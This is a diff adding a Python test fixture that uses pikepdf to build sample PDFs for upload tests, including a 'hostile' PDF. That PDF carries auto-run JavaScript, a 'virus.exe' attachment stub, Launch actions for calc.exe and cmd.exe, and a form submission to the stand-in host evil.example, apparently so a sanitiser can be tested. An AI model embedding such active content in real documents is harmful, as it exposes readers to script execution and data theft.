@@ -1,0 +1,81 @@
+"""PDFs that the tests upload: plain ones, and such as do harm."""
+
+from __future__ import annotations
+
+import io
+from typing import Any
+
+import pikepdf
+
+
+def _bytes(pdf: pikepdf.Pdf, **options: Any) -> bytes:
+    out = io.BytesIO()
+    pdf.save(out, **options)
+    return out.getvalue()
+
+
+def plain(pages: int = 2) -> bytes:
+    pdf = pikepdf.new()
+    for _ in range(pages):
+        pdf.add_blank_page(page_size=(200, 300))
+    return _bytes(pdf)
+
+
+def encrypted(password: str = "secret") -> bytes:
+    pdf = pikepdf.open(io.BytesIO(plain()))
+    return _bytes(pdf, encryption=pikepdf.Encryption(owner=password, user=password))
+
+
+def restricted() -> bytes:
+    """Opens without a password, and is encrypted all the same."""
+    pdf = pikepdf.open(io.BytesIO(plain()))
+    return _bytes(pdf, encryption=pikepdf.Encryption(owner="owner", user=""))
+
+
+def _action(kind: str, **more: Any) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **more)
+
+
+def hostile() -> bytes:
+    """A PDF with everything that acts by itself or carries something along."""
+    pdf = pikepdf.new()
+    page = pdf.add_blank_page(page_size=(200, 300))
+    script = _action("JavaScript", JS=pikepdf.String("app.alert('opened')"))
+    pdf.Root.OpenAction = pdf.make_indirect(script)
+    pdf.Root.AA = pikepdf.Dictionary(WC=_action("JavaScript", JS=pikepdf.String("app.alert('closed')")))
+    pdf.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(
+            Names=pikepdf.Array([pikepdf.String("go"), _action("JavaScript", JS=pikepdf.String("steal()"))])
+        )
+    )
+    pdf.attachments["virus.exe"] = b"MZ-attached"
+    page.obj.AA = pikepdf.Dictionary(O=_action("Launch", F=pikepdf.String("calc.exe")))
+    link = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Link, "Rect": pikepdf.Array([0, 0, 9, 9])}
+    page.obj.Annots = pikepdf.Array(
+        [
+            pdf.make_indirect(pikepdf.Dictionary(**link, A=_action("Launch", F=pikepdf.String("cmd.exe")))),
+            pikepdf.Dictionary(**link, A=_action("SubmitForm", F=pikepdf.String("https://evil.example"))),
+            pikepdf.Dictionary(**link, A=_action("URI", URI=pikepdf.String("javascript:steal()"))),
+            pikepdf.Dictionary(**link, A=_action("URI", URI=pikepdf.String("https://example.org/kept"))),
+            pikepdf.Dictionary(
+                **link,
+                A=_action(
+                    "GoTo",
+                    D=pikepdf.Array([page.obj, pikepdf.Name.Fit]),
+                    Next=pikepdf.Array([_action("JavaScript", JS=pikepdf.String("next()"))]),
+                ),
+            ),
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=pikepdf.Array([0, 0, 9, 9])
+            ),
+        ]
+    )
+    field = pikepdf.Dictionary(
+        FT=pikepdf.Name.Tx,
+        T=pikepdf.String("name"),
+        AA=pikepdf.Dictionary(K=_action("JavaScript", JS=pikepdf.String("typed()"))),
+    )
+    pdf.Root.AcroForm = pikepdf.Dictionary(
+        Fields=pikepdf.Array([pdf.make_indirect(field)]), XFA=pikepdf.String("<xfa>script</xfa>")
+    )
+    return _bytes(pdf)
